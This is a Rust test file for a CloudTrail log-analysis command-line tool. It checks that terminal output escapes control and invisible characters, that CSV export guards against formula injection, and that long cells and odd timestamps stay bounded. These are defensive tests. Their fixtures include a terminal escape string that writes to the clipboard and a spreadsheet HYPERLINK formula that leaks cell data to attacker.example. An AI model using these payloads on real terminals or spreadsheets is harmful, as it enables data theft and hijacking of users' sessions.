//! Issue 10: output that stays safe and bounded on hostile input. Names and keys quoted on stderr
//! are escaped like table cells, CSV guards text against formula injection (`--csv-raw` keeps
//! it exact), `summary` keeps its timeline short whatever the event times, and a huge cell is
//! cut in the table but whole in JSON and CSV.

use serde_json::{Value, json};

use crate::athena::AthenaServer;
use crate::util::*;

/// A screen clear and an OSC 52 clipboard write (`echo pwned` in base64), then BEL.
const CLEAR_AND_CLIPBOARD: &str = "\u{1b}[2J\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}";
const CLEAR_AND_CLIPBOARD_SHOWN: &str = r"\x1b[2J\x1b]52;c;ZWNobyBwd25lZA==\x07";

fn assert_no_raw_controls(what: &str, text: &str) {
    for c in ['\u{1b}', '\u{7}', '\u{9b}', '\r'] {
        assert!(
            !text.contains(c),
            "{what}: raw {c:?} reaches the terminal:\n{}",
            text.escape_debug()
        );
    }
}

#[test]
fn file_names_in_warnings_are_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let name = format!("trail{CLEAR_AND_CLIPBOARD}.json");
    write(dir.path(), &name, b"{ this is not JSON");
    write(
        dir.path(),
        "good.json",
        &records(&[event(
            "2024-09-05T10:00:00Z",
            "GetCallerIdentity",
            json!({}),
        )]),
    );
    let d = dir.path().to_str().unwrap();
    // Found in a folder, and named directly.
    let file = dir.path().join(&name);
    for source in [d, file.to_str().unwrap()] {
        let r = run(&["errors", "-s", source]);
        assert_eq!(r.code, 3, "{}", r.stderr);
        assert_no_raw_controls("stderr", &r.stderr);
        assert!(
            r.stderr
                .contains(&format!("trail{CLEAR_AND_CLIPBOARD_SHOWN}.json: ")),
            "{}",
            r.stderr
        );
    }
}

#[test]
fn fatal_errors_quoting_a_path_are_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join(format!("gone{CLEAR_AND_CLIPBOARD}"));
    let r = run(&["errors", "-s", missing.to_str().unwrap()]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert_no_raw_controls("stderr", &r.stderr);
    assert!(
        r.stderr
            .contains(&format!("gone{CLEAR_AND_CLIPBOARD_SHOWN}")),
        "{}",
        r.stderr
    );
}

#[test]
fn json_keys_in_not_cloudtrail_messages_are_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let key = format!("\u{1b}[31mred{CLEAR_AND_CLIPBOARD}\u{202e}\u{200b}");
    let body = serde_json::to_vec(&json!({ key: 1, "other": 2 })).unwrap();
    write(dir.path(), "config.json", &body);
    let r = run(&["summary", "-s", dir.path().to_str().unwrap(), "-o", "json"]);
    assert_eq!(r.code, 3, "{}", r.stderr);
    assert_no_raw_controls("stderr", &r.stderr);
    for c in ['\u{202e}', '\u{200b}'] {
        assert!(
            !r.stderr.contains(c),
            "{c:?} in {}",
            r.stderr.escape_debug()
        );
    }
    assert!(
        r.stderr.contains(&format!(
            r"a JSON object with keys \x1b[31mred{CLEAR_AND_CLIPBOARD_SHOWN}\u{{202e}}\u{{200b}}"
        )),
        "{}",
        r.stderr
    );
}

#[test]
fn invisible_and_reordering_characters_are_escaped_in_the_table() {
    let dir = tempfile::tempdir().unwrap();
    let message =
        "ok\u{061c}\u{2028}\u{2029}\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{e0041}\u{e007f}end";
    write(
        dir.path(),
        "a.json",
        &records(&[error_event(
            "2024-09-05T10:00:00Z",
            "GetObject",
            "AccessDenied",
            message,
        )]),
    );
    let r = run(&["errors", "-s", dir.path().to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.contains(
            r"ok\u{61c}\u{2028}\u{2029}\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{e0041}\u{e007f}end"
        ),
        "{}",
        r.stdout
    );
}

// --------------------------------------------------------------------------------------- CSV

fn errors_csv(messages: &[&str], extra: &[&str]) -> String {
    let dir = tempfile::tempdir().unwrap();
    let evs: Vec<Value> = messages
        .iter()
        .enumerate()
        .map(|(i, m)| error_event("2024-09-05T10:00:00Z", &format!("Call{i}"), "-1", m))
        .collect();
    write(dir.path(), "a.json", &records(&evs));
    let d = dir.path().to_str().unwrap();
    let r = run(&[&["errors", "--top", "0", "-s", d, "-o", "csv"][..], extra].concat());
    assert_eq!(r.code, 0, "{}", r.stderr);
    r.stdout
}

#[test]
fn csv_guards_text_that_starts_like_a_formula() {
    let hyperlink = r#"=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")"#;
    let csv = errors_csv(&[hyperlink], &[]);
    // The error code "-1" is text: guarded too. The count is a number: never.
    assert_eq!(
        csv,
        "event_name,error_code,error_message,count\n\
         Call0,'-1,\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,\"\"Click for details\"\")\",1\n"
    );
    for (message, cell) in [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "\"'\rcmd\""),
        ("a=1", "a=1"),
        ("1-2", "1-2"),
    ] {
        assert_eq!(
            errors_csv(&[message], &[]),
            format!("event_name,error_code,error_message,count\nCall0,'-1,{cell},1\n"),
            "{message:?}"
        );
    }
}

#[test]
fn csv_raw_keeps_the_exact_text() {
    let csv = errors_csv(&["=1+1", "@x", "plain"], &["--csv-raw"]);
    assert_eq!(
        csv,
        "event_name,error_code,error_message,count\nCall0,-1,=1+1,1\nCall1,-1,@x,1\nCall2,-1,plain,1\n"
    );
}

#[test]
fn csv_counts_times_and_json_numbers_are_never_guarded() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "a.json",
        &records(&[event(
            "2024-09-05T10:00:00Z",
            "-Name",
            json!({"requestParameters": {"n": -1, "s": "-1"}}),
        )]),
    );
    let d = dir.path().to_str().unwrap();
    let r = run(&[
        "events",
        "-s",
        d,
        "-o",
        "csv",
        "--fields",
        "eventTime,eventName,requestParameters.n,requestParameters.s,readOnly",
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(
        r.stdout.lines().nth(1),
        Some("2024-09-05T10:00:00Z,'-Name,-1,'-1,true"),
        "{}",
        r.stdout
    );
    // summary: keys from the logs are guarded; counts and times are not.
    let r = run(&["summary", "-s", d, "-o", "csv"]);
    assert!(
        r.stdout.contains("\ntop_event_names,'-Name,1\n"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains("\nfirst_event,2024-09-05T10:00:00Z,\n"),
        "{}",
        r.stdout
    );
    let r = run(&["summary", "-s", d, "-o", "csv", "--csv-raw"]);
    assert!(
        r.stdout.contains("\ntop_event_names,-Name,1\n"),
        "{}",
        r.stdout
    );
}

#[test]
fn csv_raw_is_in_the_help() {
    let r = run(&["--help"]);
    assert!(r.stdout.contains("--csv-raw"), "{}", r.stdout);
}

// ----------------------------------------------------------------------------------- summary

#[test]
fn summary_of_years_2000_and_9999_is_small() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "a.json",
        &records(&[
            event("2000-01-01T00:00:00Z", "Old", json!({})),
            event("9999-12-31T23:59:59Z", "Future", json!({})),
        ]),
    );
    let d = dir.path().to_str().unwrap();
    for format in ["json", "ndjson", "csv", "table"] {
        let r = run(&["summary", "-s", d, "-o", format]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert!(
            r.stdout.len() < 8_000,
            "-o {format}: {} bytes",
            r.stdout.len()
        );
        assert!(
            r.stderr.contains(
                "2 events have implausible times (earliest 2000-01-01T00:00:00Z, latest 9999-12-31T23:59:59Z"
            ),
            "{}",
            r.stderr
        );
    }
    let doc = run(&["summary", "-s", d, "-o", "json"]).json();
    assert_eq!(doc["events"], 2);
    assert_eq!(doc["implausible_times"], 2);
    assert_eq!(doc["first_event"], Value::Null);
    assert_eq!(doc["last_event"], Value::Null);
    assert_eq!(doc["timeline"], json!([]));
    assert_eq!(doc["top_event_names"].as_array().unwrap().len(), 2);
    assert!(doc.get("events_per_hour").is_none());
}

#[test]
fn summary_timeline_buckets_by_span() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_str().unwrap();
    let times = [
        "2013-11-01T00:00:00Z",
        "2024-09-05T10:15:00Z",
        "2024-09-05T12:00:00Z",
        "2024-09-25T00:00:00Z",
        "1999-12-31T23:59:59Z",
    ];
    let evs: Vec<Value> = times
        .iter()
        .map(|t| event(t, "GetObject", json!({})))
        .collect();
    write(dir.path(), "a.json", &records(&evs));
    let summary = |window: &[&str]| {
        let r = run(&[&["summary", "-s", d, "-o", "json"][..], window].concat());
        assert_eq!(r.code, 0, "{}", r.stderr);
        r.json()
    };
    let all = summary(&[]);
    assert_eq!(all["timeline_bucket"], "month");
    assert_eq!(all["first_event"], "2013-11-01T00:00:00Z");
    assert_eq!(all["last_event"], "2024-09-25T00:00:00Z");
    assert_eq!(all["implausible_times"], 1);
    let timeline = all["timeline"].as_array().unwrap();
    assert_eq!(timeline.len(), 12 * 10 + 11);
    assert_eq!(
        timeline[0],
        json!({"start": "2013-11-01T00:00:00Z", "count": 1})
    );
    assert_eq!(
        timeline.last().unwrap(),
        &json!({"start": "2024-09-01T00:00:00Z", "count": 3})
    );

    let september = summary(&["--since", "2024-09-01", "--until", "2024-10-01"]);
    assert_eq!(september["timeline_bucket"], "day");
    assert_eq!(september["timeline"].as_array().unwrap().len(), 21);

    let day = summary(&["--date", "2024-09-05"]);
    assert_eq!(day["timeline_bucket"], "hour");
    assert_eq!(
        day["timeline"],
        json!([
            {"start": "2024-09-05T10:00:00Z", "count": 1},
            {"start": "2024-09-05T11:00:00Z", "count": 0},
            {"start": "2024-09-05T12:00:00Z", "count": 1},
        ])
    );
    let table = run(&["summary", "-s", d]).stdout;
    assert!(
        table.contains("\nevents per month (UTC)\n2013-11 1 "),
        "{table}"
    );
    let table = run(&["summary", "-s", d, "--date", "2024-09-05"]).stdout;
    assert!(
        table.contains("\nevents per hour (UTC)\n2024-09-05T10:00Z 1 "),
        "{table}"
    );
}

/// Implausible times and every timeline bucket through both engines: the same documents.
#[test]
fn athena_summary_agrees_on_implausible_times_and_buckets() {
    let trail = tempfile::tempdir().unwrap();
    let evs: Vec<Value> = [
        "2000-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "2013-11-01T00:00:00Z",
        "2024-09-05T10:15:00Z",
        "2024-09-05T12:00:00Z",
        "2024-09-25T00:00:00Z",
    ]
    .iter()
    .map(|t| event(t, "GetObject", json!({"errorCode": "=cmd"})))
    .collect();
    let key = trail_path("111111111111", "us-east-1", "20240905T1205Z", "a1");
    write(trail.path(), &key, &gz(&records(&evs)));
    let Some(server) = AthenaServer::start(trail.path(), &[]) else {
        return;
    };
    assert_eq!(server.events, evs.len());
    let local_source = trail.path().to_str().unwrap();
    for window in [
        &["--since", "1999-01-01"][..],
        &["--since", "2024-09-01", "--until", "2024-10-01"],
        &["--date", "2024-09-05"],
    ] {
        for format in ["json", "csv", "table"] {
            let args = [&["summary", "-o", format][..], window].concat();
            let local = run(&[&["-s", local_source][..], &args].concat());
            let athena = server.ctq(&args);
            assert_eq!(
                (local.code, athena.code),
                (0, 0),
                "{args:?}: {}{}",
                local.stderr,
                athena.stderr
            );
            assert_eq!(local.stdout, athena.stdout, "{args:?}");
        }
    }
    let doc = server
        .ctq(&["summary", "-o", "json", "--since", "1999-01-01"])
        .json();
    assert_eq!(
        (
            doc["implausible_times"].clone(),
            doc["timeline_bucket"].clone()
        ),
        (json!(2), json!("month"))
    );
}

// ------------------------------------------------------------------------------- large cells

#[test]
fn a_16_mb_cell_is_cut_in_the_table_and_whole_in_json_and_csv() {
    let dir = tempfile::tempdir().unwrap();
    let mut message = String::from("User is not authorized: ");
    while message.len() < 16 << 20 {
        message.push_str("arn:aws:s3:::bucket/key\u{1b}[0m ");
    }
    write(
        dir.path(),
        "big.json",
        &records(&[
            error_event(
                "2024-09-05T10:00:00Z",
                "PutObject",
                "AccessDenied",
                &message,
            ),
            error_event("2024-09-05T10:00:01Z", "GetObject", "NoSuchKey", "short"),
        ]),
    );
    let d = dir.path().to_str().unwrap();
    // To a pipe, a table cell is cut at 4096 columns; on a terminal (--width), to fit it.
    let piped = run(&["errors", "-s", d]);
    assert_eq!(piped.code, 0, "{}", piped.stderr);
    assert!(piped.stdout.len() < 64_000, "{} bytes", piped.stdout.len());
    assert!(piped.stdout.lines().all(|l| l.chars().count() < 4200));
    assert_no_raw_controls("piped table", &piped.stdout);
    let table = run(&["errors", "-s", d, "--width", "200"]);
    assert!(table.stdout.len() < 4_000, "{} bytes", table.stdout.len());
    let line = table
        .stdout
        .lines()
        .find(|l| l.contains("AccessDenied"))
        .unwrap();
    assert!(line.chars().count() <= 200, "{line}");
    assert!(
        line.contains("User is not authorized: arn:aws:s3:::bucket/key\\x1b[0m"),
        "{line}"
    );
    assert!(line.contains('…'), "{line}");
    assert_no_raw_controls("table", &table.stdout);

    let json = run(&["errors", "-s", d, "-o", "json"]).json();
    let row = json
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["error_code"] == "AccessDenied")
        .unwrap();
    assert_eq!(row["error_message"].as_str(), Some(message.as_str()));

    let csv = run(&["errors", "-s", d, "-o", "csv"]).stdout;
    assert!(csv.contains(&format!(",AccessDenied,{message},1\n")));
}

/// The summary's tables cut long keys too.
#[test]
fn summary_tables_cut_long_keys() {
    let dir = tempfile::tempdir().unwrap();
    let principal = format!("arn:aws:iam::111111111111:user/{}", "x".repeat(100_000));
    write(
        dir.path(),
        "a.json",
        &records(&[event(
            "2024-09-05T10:00:00Z",
            "GetObject",
            json!({"userIdentity": {"arn": principal}}),
        )]),
    );
    let r = run(&["summary", "-s", dir.path().to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.lines().all(|l| l.chars().count() < 4200),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("user/xxx"), "{}", r.stdout);
    // On a terminal of 80 columns, the key is shortened in the middle to fit.
    let r = run(&[
        "summary",
        "-s",
        dir.path().to_str().unwrap(),
        "--width",
        "80",
    ]);
    assert!(
        r.stdout.lines().all(|l| l.chars().count() <= 80),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("arn:aws:iam::"), "{}", r.stdout);
    assert!(r.stdout.contains("…xxx"), "{}", r.stdout);
}

/// `trace` and `profile` show identities, user agents and event names from the log: in a table
/// and in JSON, none of their control characters reaches the terminal.
#[test]
fn trace_and_profile_escape_what_the_log_says() {
    let dir = tempfile::tempdir().unwrap();
    let bad = format!("\u{1b}[31mred{CLEAR_AND_CLIPBOARD}");
    let ident = json!({"type": "IAMUser", "userName": format!("eve{bad}"),
        "arn": format!("arn:aws:iam::111111111111:user/eve{bad}"), "accessKeyId": "AKIAEVE0000000000001"});
    let events = vec![
        event(
            "2024-09-05T10:00:00Z",
            &format!("Get{bad}"),
            json!({"userIdentity": ident, "userAgent": bad, "errorCode": format!("AccessDenied{bad}")}),
        ),
        event(
            "2024-09-05T10:01:00Z",
            "ConsoleLogin",
            json!({"userIdentity": ident, "userAgent": bad, "responseElements": {"ConsoleLogin": bad}}),
        ),
    ];
    write(dir.path(), "bad.json", &records(&events));
    let d = dir.path().to_str().unwrap();
    for args in [
        &["trace", "AKIAEVE0000000000001"][..],
        &["trace", "--tree", "AKIAEVE0000000000001"],
        &["profile", "AKIAEVE0000000000001"],
        &["profile", "--ip", "0.0.0.0/0"],
    ] {
        for format in ["table", "json", "ndjson"] {
            let r = run(&[args, &["-s", d, "-o", format]].concat());
            assert_eq!(r.code, 0, "{args:?}: {}", r.stderr);
            assert_no_raw_controls(&format!("{args:?} -o {format}"), &r.stdout);
            assert_no_raw_controls(&format!("{args:?} -o {format} (stderr)"), &r.stderr);
        }
    }
}
